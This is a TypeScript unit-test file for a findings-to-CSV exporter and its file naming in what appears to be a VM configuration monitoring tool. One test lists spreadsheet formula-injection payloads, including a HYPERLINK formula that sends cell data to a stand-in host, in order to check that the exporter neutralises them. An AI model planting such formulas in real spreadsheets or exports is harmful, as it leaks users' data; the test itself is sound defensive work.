import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { FindingView } from '../queries/list-findings';
import { exportFileName, findingsToCsv } from './findings-csv';

const base: FindingView = {
  id: 7,
  target: 'ci-1',
  targetKind: 'guest',
  host: 'kvm-a',
  rule: 'disk-cache-unsafe',
  severity: 'critical',
  subject: 'vda',
  state: 'open',
  summary: 'Disk vda uses cache=unsafe, data loss on host crash',
  detail: '',
  openedAt: new Date('2026-11-01T08:00:00Z'),
  updatedAt: new Date('2026-11-21T08:00:00Z'),
  resolvedAt: null,
  remediation: { summary: 'Set cache=none', reason: 'r', steps: [], restartRequired: true },
  silence: null,
  accepted: null,
  pendingColdBoot: null,
};

describe('findingsToCsv', () => {
  it('writes a header and one row per finding that a CSV reader gets back field for field', () => {
    const csv = findingsToCsv([
      {
        ...base,
        silence: {
          id: 3,
          comment: 'CI, see "OPS-1", rebuilt nightly',
          createdBy: 'ana@example.org',
          expiresAt: new Date('2026-12-01T00:00:00Z'),
        },
      },
      {
        ...base,
        id: 8,
        state: 'resolved',
        resolvedAt: new Date('2026-11-20T10:00:00Z'),
        accepted: { reason: 'line1\nline2' },
      },
    ]);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      id: '7',
      state: 'open',
      muted: 'silenced',
      target: 'ci-1',
      host: 'kvm-a',
      silencedBy: 'ana@example.org',
      silenceComment: 'CI, see "OPS-1", rebuilt nightly',
      silenceExpiresAt: '2026-12-01T00:00:00.000Z',
      openedAt: '2026-11-01T08:00:00.000Z',
      resolvedAt: '',
    });
    expect(rows[1]).toMatchObject({
      id: '8',
      state: 'resolved',
      muted: 'accepted',
      acceptedReason: 'line1\nline2',
    });
  });

  it('defuses spreadsheet formulas in text that guests or people wrote', () => {
    const evil = ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\r=1'];
    const csv = findingsToCsv(
      evil.map((s, i) => ({
        ...base,
        id: i + 1,
        subject: s,
        summary: s,
        silence: { id: 1, comment: s, createdBy: 'x', expiresAt: base.openedAt },
      })),
    );
    const rows = parse(csv, { columns: true, relax_quotes: true }) as Record<string, string>[];
    rows.forEach((r, i) => {
      for (const field of [r.subject, r.summary, r.silenceComment]) {
        expect(field).toBe(`'${evil[i]}`);
      }
    });
  });

  it('writes only the header for an empty view', () => {
    expect(parse(findingsToCsv([]), { columns: true })).toEqual([]);
    expect(findingsToCsv([]).split('\r\n')[0]).toMatch(
      /^id,state,muted,severity,rule,target,host,subject,summary/,
    );
  });
});

describe('exportFileName', () => {
  it('names the view and the minute', () => {
    expect(exportFileName('open', new Date('2026-11-21T12:05:59Z'), 'csv')).toBe(
      'entropy-watch-findings-open-2026-11-21T1205Z.csv',
    );
  });
});
